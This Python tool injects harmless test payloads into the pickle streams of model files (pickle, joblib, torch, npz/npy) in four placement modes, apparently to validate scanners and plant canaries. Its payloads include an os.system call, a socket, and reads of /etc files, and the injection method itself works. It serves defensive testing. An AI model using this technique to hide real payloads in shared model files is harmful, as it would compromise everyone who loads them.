#!/usr/bin/python3
"""Puts a harmless payload into a benign model file: what attackers do to popular models, for validation and canaries.

Nothing is loaded here: the pickle inside the file is found and bytes are added. Modes:
  before   the payload's opcodes stand in front of the object's
  after    they stand behind them, just before the end of the stream
  nested   a call of pickle.loads on the payload's own pickle stands in front
  stacked  the payload is a stream of its own in front of the host's; whoever reads one stream reads the payload
Formats: pickle, joblib (plain or compressed), torch zip and legacy, npz and npy with objects. Exit code 2 for a file without a pickle.
"""

import argparse
import bz2
import gzip
import io
import lzma
import pathlib
import pickletools
import struct
import sys
import zipfile
import zlib

MODES = ("before", "after", "nested", "stacked")


def _call(module, name, *arguments):
    """Opcodes of protocol 0, which every later protocol reads: the call's result is dropped again."""
    written = "".join(f"I{argument}\n" if isinstance(argument, int) else f"V{argument}\n" for argument in arguments)
    return f"c{module}\n{name}\n({written}tR0".encode()


# Each makes the fewest system calls that its kind of harm can do with.
PAYLOADS = {
    "open-file": _call("io", "open", "/etc/hostname"),
    "print-line": _call("builtins", "print", "harmless"),
    "list-folder": _call("os", "listdir", "/etc"),
    "stat-file": _call("os", "stat", "/etc/passwd"),
    "make-folder": _call("os", "mkdir", "/tmp/.dynahug-injected"),
    "socket": _call("socket", "socket"),
    "signal": _call("os", "kill", 0, 0),
    "shell": _call("os", "system", "true"),
}

_FRAME = b"\x95"
_STOP = b"."


class NoPickle(Exception):
    """The file holds no pickle that a payload could be put into."""


def inject(data, mode, payload):
    """The file's bytes with the payload in them.

    >>> inject(b"\\x80\\x04N.", "before", b"cm\\nf\\n(tR0")
    b'\\x80\\x04cm\\nf\\n(tR0N.'
    """
    if data[:4] == b"PK\x03\x04":
        return _zip(data, mode, payload)
    if data[:6] == b"\x93NUMPY":
        start = _npy_start(data)
        return data[:start] + _stream(data[start:], mode, payload)
    for packed, unpack, pack in _COMPRESSIONS:
        if data.startswith(packed):
            try:
                return pack(_stream(unpack(data), mode, payload))
            except (zlib.error, OSError, lzma.LZMAError, EOFError) as broken:
                raise NoPickle(f"cannot be unpacked: {broken}") from broken
    return _stream(data, mode, payload)


_COMPRESSIONS = (
    (b"\x1f\x8b", gzip.decompress, lambda data: gzip.compress(data, 3, mtime=0)),
    (b"BZh", bz2.decompress, bz2.compress),
    (b"\xfd7zXZ", lzma.decompress, lzma.compress),
    (b"\x78", zlib.decompress, lambda data: zlib.compress(data, 3)),
)


def _zip(data, mode, payload):
    """A torch zip (data.pkl) or an npz (each .npy with objects): members keep order, dates and whether they are compressed."""
    source = zipfile.ZipFile(io.BytesIO(data))
    target, done = io.BytesIO(), False
    with zipfile.ZipFile(target, "w") as written:
        for member in source.infolist():
            content = source.read(member)
            if not done and (member.filename.endswith("data.pkl") or (member.filename.endswith(".npy") and b"'|O'" in content[:128])):
                content, done = inject(content, mode, payload), True
            written.writestr(member, content)
    if not done:
        raise NoPickle("no member of the archive is a pickle")
    return target.getvalue()


def _npy_start(data):
    """Where the data of a .npy file begins (NEP 1); only arrays of objects hold a pickle."""
    wide = data[6] >= 2
    length = struct.unpack("<I" if wide else "<H", data[8 : 12 if wide else 10])[0]
    start = (12 if wide else 10) + length
    if b"'|O'" not in data[:start]:
        raise NoPickle("an array of numbers holds no pickle")
    return start


def _stream(data, mode, payload):
    begin = 2 if data[:1] == b"\x80" else 0
    if len(data) < 2 or (begin == 0 and data[:1] not in b"(]})cI\x8a"):
        raise NoPickle("does not begin as a pickle")
    if mode == "before":
        return data[:begin] + payload + data[begin:]
    if mode == "nested":
        inner = payload + b"N."
        return data[:begin] + b"c_pickle\nloads\n(" + b"B" + struct.pack("<I", len(inner)) + inner + b"tR0" + data[begin:]
    if mode == "stacked":
        return b"\x80\x02" + payload + b"N." + data
    return _after(data, payload)


def _after(data, payload):
    """Before the last STOP. A frame (PEP 3154) that reaches to the end has to grow with it: joblib's unpickler holds frames to their length."""
    end = _last_stop(data)
    head, place = data[:end], data.rfind(_FRAME, 0, end)
    while place >= 0:
        if place + 9 <= end and struct.unpack("<Q", data[place + 1 : place + 9])[0] == end + 1 - (place + 9):
            head = head[: place + 1] + struct.pack("<Q", end + 1 - (place + 9) + len(payload)) + head[place + 9 :]
            break
        place = data.rfind(_FRAME, 0, place)
    return head + payload + data[end:]


def _last_stop(data):
    """The end of the only stream, else (torch legacy: five streams, then numbers) of the fourth, which holds the object.

    A joblib file has raw arrays between its opcodes, which cannot be read over; its last byte is its STOP.
    """
    stream, ends = io.BytesIO(data), []
    try:
        while stream.tell() < len(data) and len(ends) < 4:
            for _ in pickletools.genops(stream):
                pass
            ends.append(stream.tell() - 1)
    except Exception:
        if not ends or data[ends[-1] : ends[-1] + 1] != _STOP:
            if data[-1:] == _STOP:
                return len(data) - 1
            raise NoPickle("its end cannot be found")
    return ends[-1]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", type=pathlib.Path, required=True, metavar="FILE", help="the benign file; it stays as it is")
    parser.add_argument("--mode", choices=MODES, default="before")
    parser.add_argument("--payload", choices=sorted(PAYLOADS), default="open-file")
    parser.add_argument("--out", type=pathlib.Path, required=True, metavar="FILE")
    arguments = parser.parse_args()
    try:
        injected = inject(arguments.host.read_bytes(), arguments.mode, PAYLOADS[arguments.payload])
    except NoPickle as refused:
        print(f"{arguments.host}: {refused}", file=sys.stderr)
        return 2
    arguments.out.parent.mkdir(parents=True, exist_ok=True)
    arguments.out.write_bytes(injected)
    return 0


if __name__ == "__main__":
    sys.exit(main())
